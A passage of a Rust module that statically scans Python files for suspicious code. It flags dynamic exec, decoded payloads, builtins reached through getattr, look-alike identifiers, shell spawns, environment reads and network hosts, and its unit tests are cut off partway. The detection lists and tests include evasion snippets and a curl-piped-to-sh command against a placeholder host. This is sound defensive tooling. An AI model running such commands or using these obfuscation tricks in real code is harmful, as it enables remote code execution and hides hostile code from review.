//! Python: calls resolved through the file's imports and aliases, string constants folded
//! (`'ev' + 'al'`, `'lave'[::-1]`, `''.join([...])`), identifiers NFKC-folded as the
//! interpreter folds them (`ｅｖａｌ` is `eval`).

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};

use tree_sitter::Node;
use unicode_normalization::UnicodeNormalization;

use super::{MAX_DEPTH, SHELLS, any_below, basename, named_children, parse, text, unescape, walk};
use crate::lang::shell;
use crate::out::{Loc, Out, Text};
use crate::rules::R;
use crate::strings::{UNKNOWN, check_literal, host_port, url_hosts};

/// Modules whose import means network use.
const NET_MODULES: &[&str] = &[
    "socket",
    "urllib.request",
    "urllib3",
    "requests",
    "httpx",
    "aiohttp",
    "http.client",
    "http.server",
    "ftplib",
    "smtplib",
    "poplib",
    "imaplib",
    "telnetlib",
    "xmlrpc.client",
    "websocket",
    "websockets",
    "paramiko",
    "pycurl",
    "socketserver",
    "asyncio.open_connection",
];
const FFI_MODULES: &[&str] = &["ctypes", "_ctypes", "cffi"];
const EXEC_FNS: &[&str] = &["eval", "exec", "compile", "execfile"];
/// Names whose look-alike spelling is refused outright.
const LOOKALIKE_TARGETS: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "execfile",
    "__import__",
    "getattr",
    "setattr",
    "globals",
    "locals",
    "vars",
    "builtins",
    "__builtins__",
    "os",
    "system",
    "popen",
    "subprocess",
    "open",
    "input",
    "breakpoint",
    "importlib",
    "import_module",
    "base64",
    "b64decode",
    "marshal",
    "loads",
    "pickle",
    "ctypes",
    "socket",
    "requests",
    "urllib",
];
/// Names reached through getattr or a builtins dict that mean running code.
const DANGEROUS_NAMES: &[&str] = &[
    "eval",
    "exec",
    "compile",
    "execfile",
    "__import__",
    "system",
    "popen",
    "spawnv",
    "spawnl",
    "execv",
    "execve",
    "execl",
    "execvp",
    "execvpe",
    "posix_spawn",
    "Popen",
    "check_output",
    "getoutput",
    "import_module",
    "loads",
];
const DECODERS: &[&str] = &[
    "base64.b64decode",
    "base64.b32decode",
    "base64.b16decode",
    "base64.b85decode",
    "base64.a85decode",
    "base64.urlsafe_b64decode",
    "base64.standard_b64decode",
    "base64.decodebytes",
    "base64.decodestring",
    "binascii.unhexlify",
    "binascii.a2b_base64",
    "binascii.a2b_hex",
    "bytes.fromhex",
    "bytearray.fromhex",
    "zlib.decompress",
    "gzip.decompress",
    "bz2.decompress",
    "lzma.decompress",
    "codecs.decode",
    "marshal.loads",
    "pickle.loads",
];
const ENV_GETTERS: &[&str] = &[
    "os.environ.get",
    "os.getenv",
    "os.environ.setdefault",
    "os.environ.pop",
    "os.environ.__getitem__",
    "os.getenvb",
    "os.environb.get",
];
const OPENERS: &[&str] = &["open", "builtins.open", "io.open", "codecs.open"];
/// Objects whose attributes are the builtins.
const BUILTINS_OBJECTS: &[&str] = &[
    "builtins",
    "builtins.__dict__",
    "globals()",
    "locals()",
    "vars()",
    "sys.modules.builtins",
];
/// Spawners whose first argument is an argv list or a program.
const SPAWN_ARGV: &[&str] = &[
    "subprocess.run",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.Popen",
    "pty.spawn",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.execvpe",
    "os.execl",
    "os.execle",
    "os.execlp",
    "os.execlpe",
    "os.posix_spawn",
    "os.posix_spawnp",
    "asyncio.create_subprocess_exec",
    "os.startfile",
];
const SPAWN_SHELL: &[&str] = &[
    "os.system",
    "os.popen",
    "subprocess.getoutput",
    "subprocess.getstatusoutput",
    "asyncio.create_subprocess_shell",
    "commands.getoutput",
    "platform.popen",
];
const DYNAMIC_LOADERS: &[&str] = &[
    "runpy.run_path",
    "runpy.run_module",
    "imp.load_source",
    "imp.load_module",
    "importlib.util.spec_from_file_location",
    "importlib.machinery.SourceFileLoader",
    "importlib.__import__",
];

/// Scans a Python file.
pub(crate) fn scan(t: &Text<'_>, out: &mut Out) {
    let language = tree_sitter_python::LANGUAGE.into();
    let Some(tree) = parse(&language, t, out) else {
        return;
    };
    let root = tree.root_node();
    let mut py = Py {
        t,
        src: t.text,
        aliases: HashMap::new(),
        consts: HashMap::new(),
        tainted: HashSet::new(),
    };
    walk(root, |n| py.collect(n));
    walk(root, |n| py.visit(n, out));
}

/// An identifier as the interpreter sees it (NFKC-folded).
fn norm(s: &str) -> Cow<'_, str> {
    if s.is_ascii() {
        Cow::Borrowed(s)
    } else {
        Cow::Owned(s.nfkc().collect())
    }
}

fn matches_module(m: &str, list: &[&str]) -> bool {
    list.iter()
        .any(|x| m == *x || (m.starts_with(x) && m.as_bytes().get(x.len()) == Some(&b'.')))
}

struct Py<'a> {
    t: &'a Text<'a>,
    src: &'a str,
    /// Local name → what it stands for (`sp` → `subprocess`, `d` → `base64.b64decode`).
    aliases: HashMap<String, String>,
    /// Names bound to a string constant.
    consts: HashMap<String, String>,
    /// Names bound to something decoded at run time.
    tainted: HashSet<String>,
}

struct Args<'t> {
    positional: Vec<Node<'t>>,
    keywords: Vec<(String, Node<'t>)>,
}

impl<'t> Args<'t> {
    fn of(call: Node<'t>, src: &str) -> Self {
        let mut a = Args {
            positional: Vec::new(),
            keywords: Vec::new(),
        };
        if let Some(list) = call.child_by_field_name("arguments") {
            for c in named_children(list) {
                if c.kind() == "keyword_argument" {
                    if let (Some(k), Some(v)) = (
                        c.child_by_field_name("name"),
                        c.child_by_field_name("value"),
                    ) {
                        a.keywords.push((text(k, src).to_owned(), v));
                    }
                } else {
                    a.positional.push(c);
                }
            }
        }
        a
    }

    fn get(&self, i: usize, kw: &str) -> Option<Node<'t>> {
        self.positional
            .get(i)
            .copied()
            .or_else(|| self.keywords.iter().find(|(k, _)| k == kw).map(|(_, v)| *v))
    }
}

impl Py<'_> {
    fn loc(&self, n: Node<'_>) -> Loc {
        self.t.loc(n.start_byte())
    }

    fn ident(&self, n: Node<'_>) -> String {
        norm(text(n, self.src)).into_owned()
    }

    /// What an expression names, through imports and aliases: `sp.run` → `subprocess.run`,
    /// `getattr(__builtins__, 'ev'+'al')` → `builtins.eval`, `requests.Session().get` stays.
    fn qualify(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        let q = match n.kind() {
            "identifier" => {
                let id = self.ident(n);
                self.aliases.get(&id).cloned().unwrap_or(id)
            }
            "attribute" => {
                let obj = self.qualify(n.child_by_field_name("object")?, depth + 1)?;
                let attr = self.ident(n.child_by_field_name("attribute")?);
                format!("{obj}.{attr}")
            }
            "parenthesized_expression" => return self.qualify(n.named_child(0)?, depth + 1),
            "call" => {
                let f = self.qualify(n.child_by_field_name("function")?, depth + 1)?;
                let args = Args::of(n, self.src);
                match f.as_str() {
                    "__import__" | "importlib.import_module" | "builtins.__import__" => {
                        self.const_str(args.get(0, "name")?, depth + 1)?
                    }
                    "getattr" | "builtins.getattr" => {
                        let obj = self.qualify(args.get(0, "")?, depth + 1)?;
                        let name = self.const_str(args.get(1, "")?, depth + 1)?;
                        format!("{obj}.{name}")
                    }
                    _ => format!("{f}()"),
                }
            }
            "subscript" => {
                let obj = self.qualify(n.child_by_field_name("value")?, depth + 1)?;
                let key = self.const_str(n.child_by_field_name("subscript")?, depth + 1)?;
                if BUILTINS_OBJECTS.contains(&obj.as_str()) {
                    format!("builtins.{key}")
                } else {
                    format!("{obj}.{key}")
                }
            }
            _ => return None,
        };
        Some(canon(q))
    }

    /// The value of a string expression when it is known without running the code.
    fn const_str(&self, n: Node<'_>, depth: usize) -> Option<String> {
        if depth > MAX_DEPTH {
            return None;
        }
        match n.kind() {
            "string" => {
                let mut raw = false;
                let mut v = String::new();
                for c in named_children(n) {
                    match c.kind() {
                        "string_start" => {
                            raw = text(c, self.src).to_ascii_lowercase().contains('r')
                        }
                        "string_content" | "escape_sequence" => v.push_str(text(c, self.src)),
                        "interpolation" => return None,
                        _ => {}
                    }
                }
                Some(if raw { v } else { unescape(&v) })
            }
            "concatenated_string" => named_children(n)
                .into_iter()
                .map(|c| self.const_str(c, depth + 1))
                .collect(),
            "binary_operator" => {
                let op = n.child_by_field_name("operator").map(|o| text(o, self.src));
                if op != Some("+") {
                    return None;
                }
                let l = self.const_str(n.child_by_field_name("left")?, depth + 1)?;
                let r = self.const_str(n.child_by_field_name("right")?, depth + 1)?;
                Some(l + &r)
            }
            "identifier" => self.consts.get(&self.ident(n)).cloned(),
            "parenthesized_expression" => self.const_str(n.named_child(0)?, depth + 1),
            "subscript" => {
                let v = self.const_str(n.child_by_field_name("value")?, depth + 1)?;
                let sl = n.child_by_field_name("subscript")?;
                let s: String = text(sl, self.src).split_whitespace().collect();
                (sl.kind() == "slice" && s == "::-1").then(|| v.chars().rev().collect())
            }
            "call" => {
                let f = n.child_by_field_name("function")?;
                let args = Args::of(n, self.src);
                if f.kind() == "attribute" {
                    let obj = f.child_by_field_name("object")?;
                    let method = text(f.child_by_field_name("attribute")?, self.src);
                    match method {
                        "join" => {
                            let sep = self.const_str(obj, depth + 1)?;
                            let seq = args.get(0, "")?;
                            if !matches!(seq.kind(), "list" | "tuple") {
                                return None;
                            }
                            let parts: Option<Vec<String>> = named_children(seq)
                                .into_iter()
                                .map(|c| self.const_str(c, depth + 1))
                                .collect();
                            Some(parts?.join(&sep))
                        }
                        "decode" if args.positional.is_empty() => self.const_str(obj, depth + 1),
                        "replace" => {
                            let s = self.const_str(obj, depth + 1)?;
                            let a = self.const_str(args.get(0, "")?, depth + 1)?;
                            let b = self.const_str(args.get(1, "")?, depth + 1)?;
                            Some(s.replace(&a, &b))
                        }
                        "lower" => Some(self.const_str(obj, depth + 1)?.to_lowercase()),
                        _ => None,
                    }
                } else if text(f, self.src) == "chr" {
                    let code: u32 = text(args.get(0, "")?, self.src).parse().ok()?;
                    char::from_u32(code).map(String::from)
                } else {
                    None
                }
            }
            _ => None,
        }
    }

    /// Like [`Py::const_str`], with unknown parts as [`UNKNOWN`]: `f"{API}/v1?{q}"`.
    fn pattern(&self, n: Node<'_>, depth: usize) -> String {
        if let Some(s) = self.const_str(n, depth) {
            return s;
        }
        if depth > MAX_DEPTH {
            return UNKNOWN.to_string();
        }
        match n.kind() {
            "string" => {
                let mut v = String::new();
                for c in named_children(n) {
                    match c.kind() {
                        "string_content" | "escape_sequence" => {
                            v.push_str(&unescape(text(c, self.src)));
                        }
                        "interpolation" => match c.child_by_field_name("expression") {
                            Some(e) => v.push_str(&self.pattern(e, depth + 1)),
                            None => v.push(UNKNOWN),
                        },
                        _ => {}
                    }
                }
                v
            }
            "binary_operator" => {
                let op = n.child_by_field_name("operator").map(|o| text(o, self.src));
                let l = n.child_by_field_name("left");
                let r = n.child_by_field_name("right");
                match (op, l, r) {
                    (Some("+"), Some(l), Some(r)) => {
                        self.pattern(l, depth + 1) + &self.pattern(r, depth + 1)
                    }
                    (Some("%"), Some(l), _) => self.pattern(l, depth + 1) + "\u{0}",
                    _ => UNKNOWN.to_string(),
                }
            }
            "call" => {
                // "https://{}/x".format(h): the template, placeholders and all.
                let f = n.child_by_field_name("function");
                match f.filter(|f| f.kind() == "attribute") {
                    Some(f)
                        if f.child_by_field_name("attribute")
                            .is_some_and(|a| text(a, self.src) == "format") =>
                    {
                        f.child_by_field_name("object")
                            .map_or(UNKNOWN.to_string(), |o| self.pattern(o, depth + 1))
                    }
                    _ => UNKNOWN.to_string(),
                }
            }
            _ => UNKNOWN.to_string(),
        }
    }

    fn is_decoder_call(&self, call: Node<'_>) -> bool {
        let Some(f) = call.child_by_field_name("function") else {
            return false;
        };
        let q = self.qualify(f, 0).unwrap_or_default();
        if DECODERS.contains(&q.as_str()) || q.ends_with(".fromhex") {
            return true;
        }
        if f.kind() == "attribute"
            && f.child_by_field_name("attribute")
                .is_some_and(|a| text(a, self.src) == "decode")
        {
            let args = Args::of(call, self.src);
            let codec = args
                .get(0, "encoding")
                .and_then(|a| self.const_str(a, 0))
                .unwrap_or_default()
                .to_ascii_lowercase();
            return matches!(
                codec.as_str(),
                "rot13" | "rot_13" | "base64" | "base_64" | "hex" | "zlib" | "bz2" | "uu"
            );
        }
        false
    }

    /// Whether `n` holds a decoder call or a name bound to decoded data.
    fn decoded(&self, n: Node<'_>) -> bool {
        any_below(n, |c| match c.kind() {
            "call" => self.is_decoder_call(c),
            "identifier" => self.tainted.contains(&self.ident(c)),
            _ => false,
        })
    }

    fn collect(&mut self, n: Node<'_>) {
        match n.kind() {
            "import_statement" => {
                for c in named_children(n) {
                    if c.kind() == "aliased_import"
                        && let (Some(name), Some(alias)) = (
                            c.child_by_field_name("name"),
                            c.child_by_field_name("alias"),
                        )
                    {
                        let m = self.ident(name);
                        self.aliases.insert(self.ident(alias), m);
                    }
                }
            }
            "import_from_statement" => {
                let Some(m) = n.child_by_field_name("module_name") else {
                    return;
                };
                let m = self.ident(m);
                let mut c = n.walk();
                for name in n.children_by_field_name("name", &mut c) {
                    let (orig, local) = match name.kind() {
                        "aliased_import" => (
                            name.child_by_field_name("name"),
                            name.child_by_field_name("alias"),
                        ),
                        _ => (Some(name), Some(name)),
                    };
                    if let (Some(o), Some(l)) = (orig, local) {
                        let full = format!("{m}.{}", self.ident(o));
                        self.aliases.insert(self.ident(l), full);
                    }
                }
            }
            "assignment" => {
                let (Some(left), Some(right)) = (
                    n.child_by_field_name("left"),
                    n.child_by_field_name("right"),
                ) else {
                    return;
                };
                if left.kind() != "identifier" {
                    return;
                }
                let name = self.ident(left);
                if let Some(v) = self.const_str(right, 0) {
                    self.consts.insert(name.clone(), v);
                }
                if self.decoded(right) {
                    self.tainted.insert(name.clone());
                }
                if matches!(
                    right.kind(),
                    "identifier" | "attribute" | "call" | "subscript"
                ) && let Some(q) = self.qualify(right, 0)
                    && q != name
                    && (right.kind() != "call" || !q.ends_with("()") || q.contains('.'))
                {
                    self.aliases.insert(name, q);
                }
            }
            _ => {}
        }
    }

    fn visit(&self, n: Node<'_>, out: &mut Out) {
        match n.kind() {
            "import_statement" => {
                for c in named_children(n) {
                    let name = if c.kind() == "aliased_import" {
                        c.child_by_field_name("name")
                    } else {
                        Some(c)
                    };
                    if let Some(name) = name {
                        self.module(&self.ident(name), &self.loc(n), out);
                    }
                }
            }
            "import_from_statement" => {
                if let Some(m) = n.child_by_field_name("module_name") {
                    let m = self.ident(m);
                    self.module(&m, &self.loc(n), out);
                    let mut c = n.walk();
                    for name in n.children_by_field_name("name", &mut c) {
                        let o = match name.kind() {
                            "aliased_import" => name.child_by_field_name("name"),
                            _ => Some(name),
                        };
                        if let Some(o) = o {
                            let full = format!("{m}.{}", self.ident(o));
                            if !matches_module(&m, NET_MODULES) {
                                self.module(&full, &self.loc(n), out);
                            }
                        }
                    }
                }
            }
            "call" => self.call(n, out),
            "subscript" => self.subscript(n, out),
            "attribute" => self.environ_use(n, out),
            "comparison_operator" => {
                // "X" in os.environ
                let kids = named_children(n);
                if let [l, r] = kids.as_slice()
                    && self.qualify(*r, 0).as_deref() == Some("os.environ")
                    && let Some(k) = self.const_str(*l, 0)
                {
                    out.usage.env(&k, &self.loc(n));
                }
            }
            "identifier" => self.lookalike(n, out),
            "string" | "concatenated_string" => self.literal(n, out),
            _ => {}
        }
    }

    fn module(&self, m: &str, loc: &Loc, out: &mut Out) {
        if matches_module(m, NET_MODULES) {
            out.usage.network(loc);
            out.emit(R::NetUse, loc, format!("imports `{m}` (network)"));
        }
        if matches_module(m, FFI_MODULES) {
            out.emit(
                R::NativeFfi,
                loc,
                format!("imports `{m}`, which loads native code"),
            );
        }
    }

    fn call(&self, n: Node<'_>, out: &mut Out) {
        let Some(f) = n.child_by_field_name("function") else {
            return;
        };
        let Some(q) = self.qualify(f, 0) else {
            return;
        };
        let loc = self.loc(n);
        let args = Args::of(n, self.src);
        let bare = q.strip_prefix("builtins.").unwrap_or(&q);

        if EXEC_FNS.contains(&bare) {
            self.exec_call(bare, &args, &loc, out);
        } else if bare == "getattr" {
            self.getattr(&args, &loc, out);
        } else if bare == "__import__" || q == "importlib.import_module" {
            match args.get(0, "name").and_then(|a| self.const_str(a, 0)) {
                Some(m) => {
                    if bare == "__import__" {
                        out.emit(
                            R::DynamicImport,
                            &loc,
                            format!("imports `{m}` through __import__"),
                        );
                    }
                    self.module(&m, &loc, out);
                }
                None => out.emit(
                    R::DynamicImport,
                    &loc,
                    format!("`{q}` of a module name computed at run time"),
                ),
            }
        } else if DYNAMIC_LOADERS.contains(&q.as_str()) {
            out.emit(
                R::DynamicImport,
                &loc,
                format!("`{q}` loads code from a path"),
            );
        } else if SPAWN_ARGV.contains(&q.as_str()) || SPAWN_SHELL.contains(&q.as_str()) {
            self.spawn(&q, &args, &loc, out);
        } else if ENV_GETTERS.contains(&q.as_str()) {
            match args.get(0, "key").and_then(|a| self.const_str(a, 0)) {
                Some(k) => out.usage.env(&k, &loc),
                None => out.emit(
                    R::EnvEnumerate,
                    &loc,
                    "reads an environment variable whose name is computed",
                ),
            }
        } else if matches_module(q.split("()").next().unwrap_or(""), NET_MODULES) {
            self.net_call(&args, &loc, out);
        }
        self.file_write(f, &q, &args, &loc, out);
    }

    fn exec_call(&self, name: &str, args: &Args<'_>, loc: &Loc, out: &mut Out) {
        let Some(code) = args.get(0, "source") else {
            return;
        };
        if self.decoded(code) {
            out.emit(
                R::ObfuscatedExec,
                loc,
                format!("`{name}` runs data decoded at run time"),
            );
        } else if self.const_str(code, 0).is_some() {
            out.emit(R::ExecLiteral, loc, format!("`{name}` of a string literal"));
        } else {
            out.emit(
                R::PyExec,
                loc,
                format!("`{name}` of a value computed at run time"),
            );
        }
    }

    fn getattr(&self, args: &Args<'_>, loc: &Loc, out: &mut Out) {
        let (Some(obj), Some(name)) = (args.get(0, ""), args.get(1, "")) else {
            return;
        };
        let obj_q = self.qualify(obj, 0).unwrap_or_default();
        let on_builtins = BUILTINS_OBJECTS.contains(&obj_q.as_str());
        let plain = name.kind() == "string";
        match self.const_str(name, 0) {
            Some(v) if DANGEROUS_NAMES.contains(&v.as_str()) => {
                let how = if plain {
                    ""
                } else {
                    ", assembled from pieces,"
                };
                if on_builtins || !plain || matches!(obj_q.as_str(), "os" | "subprocess" | "pty") {
                    out.emit(
                        R::PyGetattrBuiltins,
                        loc,
                        format!("getattr reaches `{v}`{how} on `{obj_q}`"),
                    );
                }
            }
            None if on_builtins => out.emit(
                R::PyGetattrBuiltins,
                loc,
                format!("getattr on `{obj_q}` with a name computed at run time"),
            ),
            _ => {}
        }
    }

    fn spawn(&self, q: &str, args: &Args<'_>, loc: &Loc, out: &mut Out) {
        let shell_kw = args.keywords.iter().any(|(k, v)| {
            k == "shell" && text(*v, self.src) != "False" && text(*v, self.src) != "0"
        });
        let first = if q.starts_with("os.spawn") {
            args.get(1, "")
        } else {
            args.get(0, "args")
        };
        let Some(first) = first else {
            return;
        };
        let shell = SPAWN_SHELL.contains(&q) || shell_kw;
        if shell {
            out.emit(
                R::ShellString,
                loc,
                format!("`{q}` runs a command line through a shell"),
            );
            if self.decoded(first) {
                out.emit(
                    R::ObfuscatedExec,
                    loc,
                    format!("`{q}` runs a decoded command line"),
                );
            }
            match self.const_str(first, 0) {
                Some(cmd) => shell::scan_embedded(&cmd, loc, out),
                None => out.emit(
                    R::ProcSpawnDynamic,
                    loc,
                    format!("`{q}` runs a command line computed at run time"),
                ),
            }
            return;
        }
        let argv: Vec<Option<String>> = if matches!(first.kind(), "list" | "tuple") {
            named_children(first)
                .into_iter()
                .map(|e| {
                    if self.qualify(e, 0).as_deref() == Some("sys.executable") {
                        Some("sys.executable".to_owned())
                    } else {
                        self.const_str(e, 0)
                    }
                })
                .collect()
        } else if self.qualify(first, 0).as_deref() == Some("sys.executable") {
            vec![Some("sys.executable".to_owned())]
        } else {
            let mut v = vec![self.const_str(first, 0)];
            if q == "asyncio.create_subprocess_exec" {
                v.extend(
                    args.positional
                        .iter()
                        .skip(1)
                        .map(|a| self.const_str(*a, 0)),
                );
            }
            v
        };
        match argv.first() {
            Some(Some(p)) if p == "sys.executable" => {}
            Some(Some(p)) => {
                out.usage.exec(p, loc);
                out.emit(R::ProcSpawn, loc, format!("starts `{p}`"));
                if SHELLS.contains(&basename(p))
                    && argv.get(1).is_some_and(|a| a.as_deref() == Some("-c"))
                {
                    out.emit(
                        R::ShellC,
                        loc,
                        format!("starts `{p} -c`, a command line through a shell"),
                    );
                    if matches!(first.kind(), "list" | "tuple")
                        && named_children(first)
                            .get(2)
                            .is_some_and(|s| self.decoded(*s))
                    {
                        out.emit(
                            R::ObfuscatedExec,
                            loc,
                            "a shell runs a decoded command line",
                        );
                    }
                    if let Some(Some(script)) = argv.get(2) {
                        shell::scan_embedded(script, loc, out);
                    }
                }
            }
            _ => out.emit(
                R::ProcSpawnDynamic,
                loc,
                format!("`{q}` starts a program named at run time"),
            ),
        }
    }

    fn net_call(&self, args: &Args<'_>, loc: &Loc, out: &mut Out) {
        out.usage.network(loc);
        let Some(target) = args.get(0, "url").or_else(|| args.get(0, "host")) else {
            return;
        };
        if target.kind() == "tuple" {
            let kids = named_children(target);
            if let [h, p, ..] = kids.as_slice()
                && let Some(h) = self.const_str(*h, 0)
                && let Ok(p) = text(*p, self.src).parse::<u16>()
                && let Some(hp) = host_port(&h, p)
            {
                out.usage.host(hp, loc, true);
            }
            return;
        }
        let p = self.pattern(target, 0);
        let hosts = url_hosts(&p);
        if hosts.is_empty() {
            let port = args
                .get(1, "port")
                .and_then(|a| text(a, self.src).parse().ok())
                .unwrap_or(443);
            if let Some(hp) = host_port(&p, port) {
                out.usage.host(hp, loc, true);
            }
        }
        for hp in hosts {
            out.usage.host(hp, loc, true);
        }
    }

    fn file_write(&self, f: Node<'_>, q: &str, args: &Args<'_>, loc: &Loc, out: &mut Out) {
        let method = (f.kind() == "attribute")
            .then(|| f.child_by_field_name("attribute"))
            .flatten()
            .map(|a| text(a, self.src));
        let receiver_path = || {
            let obj = f.child_by_field_name("object")?;
            if obj.kind() != "call" {
                return None;
            }
            let oq = self.qualify(obj.child_by_field_name("function")?, 0)?;
            if oq != "pathlib.Path" && oq != "Path" && oq != "pathlib.PurePath" {
                return None;
            }
            Args::of(obj, self.src).get(0, "")
        };
        let path = if OPENERS.contains(&q) {
            let mode = args
                .get(1, "mode")
                .and_then(|m| self.const_str(m, 0))
                .unwrap_or_default();
            if !mode.contains(['w', 'a', 'x', '+']) {
                return;
            }
            args.get(0, "file")
        } else if matches!(method, Some("write_text" | "write_bytes")) {
            receiver_path()
        } else if method == Some("open") && q.starts_with("pathlib.Path") {
            let mode = args
                .get(0, "mode")
                .and_then(|m| self.const_str(m, 0))
                .unwrap_or_default();
            if !mode.contains(['w', 'a', 'x', '+']) {
                return;
            }
            receiver_path()
        } else if matches!(
            q,
            "shutil.copy"
                | "shutil.copy2"
                | "shutil.copyfile"
                | "shutil.move"
                | "os.rename"
                | "os.replace"
                | "os.symlink"
                | "os.link"
        ) {
            args.get(1, "dst")
        } else {
            return;
        };
        let shown = path.map_or_else(|| UNKNOWN.to_string(), |p| self.pattern(p, 0));
        out.emit(
            R::FileWrite,
            loc,
            format!("writes `{}`", shown.replace(UNKNOWN, "…")),
        );
        if !shown.contains(UNKNOWN) {
            out.usage.write(&shown, loc);
        }
    }

    fn subscript(&self, n: Node<'_>, out: &mut Out) {
        let (Some(v), Some(k)) = (
            n.child_by_field_name("value"),
            n.child_by_field_name("subscript"),
        ) else {
            return;
        };
        let vq = self.qualify(v, 0).unwrap_or_default();
        let loc = self.loc(n);
        if vq == "os.environ" || vq == "os.environb" {
            match self.const_str(k, 0) {
                Some(name) => out.usage.env(&name, &loc),
                None => out.emit(
                    R::EnvEnumerate,
                    &loc,
                    "reads an environment variable whose name is computed",
                ),
            }
        } else if BUILTINS_OBJECTS.contains(&vq.as_str()) {
            match self.const_str(k, 0) {
                Some(name) if DANGEROUS_NAMES.contains(&name.as_str()) => out.emit(
                    R::PyGetattrBuiltins,
                    &loc,
                    format!("reaches `{name}` through `{vq}[...]`"),
                ),
                None if vq != "globals()" && vq != "locals()" => out.emit(
                    R::PyGetattrBuiltins,
                    &loc,
                    format!("indexes `{vq}` with a name computed at run time"),
                ),
                _ => {}
            }
        }
    }

    /// `os.environ` used other than by one literal name: the whole environment.
    fn environ_use(&self, n: Node<'_>, out: &mut Out) {
        if self.qualify(n, 0).as_deref() != Some("os.environ") {
            return;
        }
        let Some(parent) = n.parent() else { return };
        let by_name = match parent.kind() {
            "subscript" | "comparison_operator" | "keyword_argument" => true,
            "attribute" => parent.child_by_field_name("attribute").is_some_and(|a| {
                matches!(
                    text(a, self.src),
                    "get" | "setdefault" | "pop" | "__getitem__" | "__contains__"
                )
            }),
            _ => false,
        };
        if !by_name {
            out.emit(
                R::EnvEnumerate,
                &self.loc(n),
                "uses the whole environment (os.environ)",
            );
        }
    }

    fn lookalike(&self, n: Node<'_>, out: &mut Out) {
        let raw = text(n, self.src);
        if raw.is_ascii() {
            return;
        }
        let folded = norm(raw);
        if folded == raw {
            return;
        }
        if LOOKALIKE_TARGETS.contains(&folded.as_ref()) {
            out.emit(
                R::UnicodeLookalike,
                &self.loc(n),
                format!("identifier `{raw}` runs as `{folded}`"),
            );
        } else {
            out.emit(
                R::UnicodeIdentifier,
                &self.loc(n),
                format!("identifier `{raw}` runs as `{folded}`"),
            );
        }
    }

    fn literal(&self, n: Node<'_>, out: &mut Out) {
        let parent = n.parent().map(|p| p.kind()).unwrap_or("");
        // Docstrings and bare string statements do nothing; parts of a concatenation are
        // checked as the whole.
        if matches!(parent, "expression_statement" | "concatenated_string") {
            return;
        }
        let s = self.pattern(n, 0);
        check_literal(out, &self.loc(n), &s, false);
    }
}

fn canon(q: String) -> String {
    match q.strip_prefix("__builtins__") {
        Some(rest) => format!("builtins{rest}"),
        None => q,
    }
}

#[cfg(test)]
mod tests {
    use crate::lang::scan_one;

    fn rules(src: &str) -> Vec<String> {
        scan_one("t.py", src).0
    }

    fn has(src: &str, want: &str) -> bool {
        let r = rules(src);
        let hit = r.iter().any(|x| x == want);
        if !hit {
            eprintln!("{want} not in {r:?}");
        }
        hit
    }

    #[test]
    fn eval_of_non_literal_is_high_and_literal_is_low() {
        assert_eq!(rules("eval(data)\n"), vec!["py-exec@1:1"]);
        assert_eq!(rules("x = 1\nexec('print(1)')\n"), vec!["exec-literal@2:1"]);
        assert!(rules("import re\nre.compile(p)\n").is_empty());
    }

    #[test]
    fn decoded_payload_into_exec_is_obfuscated() {
        assert!(has(
            "import base64\nexec(base64.b64decode('cHJpbnQ='))\n",
            "obfuscated-exec@2:1"
        ));
        assert!(has(
            "from base64 import b64decode as d\nexec(d(s).decode())\n",
            "obfuscated-exec@2:1"
        ));
        let via_var = "import zlib\ndef f(b):\n    code = zlib.decompress(b)\n    exec(code)\n";
        assert!(has(via_var, "obfuscated-exec@4:5"));
        assert!(has(
            "import codecs\neval(codecs.decode(s, 'rot13'))\n",
            "obfuscated-exec@2:1"
        ));
    }

    #[test]
    fn getattr_on_builtins_with_assembled_names() {
        assert!(has(
            "getattr(__builtins__, 'ev'+'al')(x)\n",
            "py-getattr-builtins@1:1"
        ));
        assert!(has(
            "import builtins\ngetattr(builtins, 'lave'[::-1])(x)\n",
            "py-getattr-builtins@2:1"
        ));
        assert!(has(
            "n = ''.join(['e','x','e','c'])\ngetattr(__builtins__, n)(c)\n",
            "py-getattr-builtins@2:1"
        ));
        assert!(has(
            "import builtins\ngetattr(builtins, name)\n",
            "py-getattr-builtins@2:1"
        ));
        assert!(has(
            "__builtins__.__dict__['exec'](c)\n",
            "py-getattr-builtins@1:1"
        ));
        // The call through getattr is an exec call too.
        assert!(has("getattr(__builtins__, 'ev'+'al')(x)\n", "py-exec@1:1"));
        assert!(rules("getattr(args, 'verbose')\ngetattr(obj, name)\n").is_empty());
    }

    #[test]
    fn nfkc_lookalike_eval_is_eval() {
        let r = rules("ｅｖａｌ(payload)\n");
        assert!(r.contains(&"unicode-lookalike@1:1".to_owned()), "{r:?}");
        assert!(r.contains(&"py-exec@1:1".to_owned()), "{r:?}");
        assert_eq!(rules("café = 1\nprint(café)\n"), Vec::<String>::new());
        assert!(has("ｆｏｏ = 1\n", "unicode-identifier@1:1"));
    }

    #[test]
    fn subprocess_argv_and_shell() {
        let (r, u) = scan_one(
            "t.py",
            "import subprocess as sp\nsp.run(['git', 'log', '-1'])\n",
        );
        assert_eq!(r, vec!["proc-spawn@2:1"]);
        assert!(u.exec.contains_key("git"));
        let (r, u) = scan_one(
            "t.py",
            "import os\nos.system('curl -s https://x.example/i | sh')\n",
        );
        assert!(r.contains(&"remote-pipe-exec@2:1".to_owned()), "{r:?}");
        assert!(r.contains(&"shell-string@2:1".to_owned()), "{r:?}");
        assert!(u.exec.contains_key("curl") && u.exec.contains_key("sh"));
        assert!(has(
            "import subprocess\nsubprocess.run(['bash', '-c', cmd])\n",
            "shell-c@2:1"
        ));
        assert!(has(
            "import subprocess\nsubprocess.run(cmd)\n",
            "proc-spawn-dynamic@2:1"
        ));
        let (_, u) = scan_one(
            "t.py",
            "import subprocess, sys\nsubprocess.run([sys.executable, 'x.py'])\n",
        );
        assert!(u.exec.is_empty());
    }

    #[test]
    fn network_hosts_env_and_writes() {
        let src = "import os, requests\nAPI = 'https://api.example.com'\nr = requests.get(f'{API}/v1/items?q={q}', timeout=5)\ntok = os.environ['API_TOKEN']\nu = os.getenv('UNITS')\nopen('/srv/out.txt', 'w').write('x')\nopen('in.txt').read()\n";
        let (r, u) = scan_one("t.py", src);
        assert!(u.network.is_some());
        assert!(
            u.hosts
                .get("api.example.com:443")
                .is_some_and(|h| h.call_site),
            "{:?}",
            u.hosts
        );
        assert!(u.env.contains_key("API_TOKEN") && u.env.contains_key("UNITS"));
